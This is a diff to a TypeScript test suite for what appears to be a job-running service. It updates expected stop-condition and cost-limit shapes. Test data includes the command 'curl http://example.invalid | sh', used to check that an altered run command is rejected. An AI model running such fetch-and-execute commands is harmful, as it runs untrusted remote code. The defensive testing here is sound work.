@@ -113,7 +113,10 @@ describe.skipIf(lacking)(`a job${lacking}`, () => {
     })
     const draft = { run: 'cp data.txt result.txt', results: 'result.txt', stop: { idle: '1h30m' } }
     const { content, stops, known } = await under.run('planProject', { project, draft })
-    expect({ stops, known }).toEqual({ stops: [{ kind: 'idle', below: 5, seconds: 5400 }], known: false })
+    expect({ stops, known }).toEqual({
+      stops: [{ when: { kind: 'idle', below: 5, seconds: 5400 }, action: 'stop', asleep: false }],
+      known: false,
+    })
     const asked = { project, content, stops, secretFiles: [] }
     const other = { ...draft, run: 'curl http://example.invalid | sh' }
     await expect(under.run('runProject', { ...asked, draft: other })).rejects.toMatchObject({
@@ -143,7 +146,10 @@ describe.skipIf(lacking)(`a job${lacking}`, () => {
 
     write(folder, { 'berth.yaml': 'run: curl http://example.invalid | sh\n', 'result.txt': 'mine\n' })
     const { content, stops, known } = await under.run('planProject', { project, job: first })
-    expect({ stops, known }).toEqual({ stops: [{ kind: 'duration', seconds: 7200 }], known: true })
+    expect({ stops, known }).toEqual({
+      stops: [{ when: { kind: 'duration', seconds: 7200 }, action: 'stop', asleep: false }],
+      known: true,
+    })
     const second = await under.run('runProject', { project, job: first, content, stops, secretFiles: [] })
     await under.until(() => jobOf(under, second)?.step === 'done')
     expect(jobOf(under, second)?.code).toBe(0)
@@ -209,8 +215,8 @@ run: |
     })
     const { controls } = world.sim
     const limits = () =>
-      Object.values(under.account().limits).flatMap(({ condition, dueAt }) =>
-        condition.kind === 'cost' && dueAt !== undefined ? { limit: condition.limit, dueAt } : [],
+      Object.values(under.account().limits).flatMap(({ when, dueAt }) =>
+        when.kind === 'cost' && dueAt !== undefined ? { dollars: when.dollars, dueAt } : [],
       )
     const untilLimitIsNear = async () => {
       await under.until(() => jobOf(under, id)?.step === 'running' && limits().length > 0)
@@ -233,7 +239,7 @@ run: |
     const before = instance?.spent.micros ?? 0
     await under.run('retryJob', { job: id })
     await untilLimitIsNear()
-    expect(limits()).toMatchObject([{ limit: before + 20_000 }])
+    expect(limits()).toMatchObject([{ dollars: (before + 20_000) / 1_000_000 }])
     expect(jobOf(under, id)?.most).toBeGreaterThanOrEqual(before + 20_000)
     await under.until(() => jobOf(under, id)?.step === 'failed')
     expect(Object.values(under.account().instances)[0]?.state).toBe('stopped')
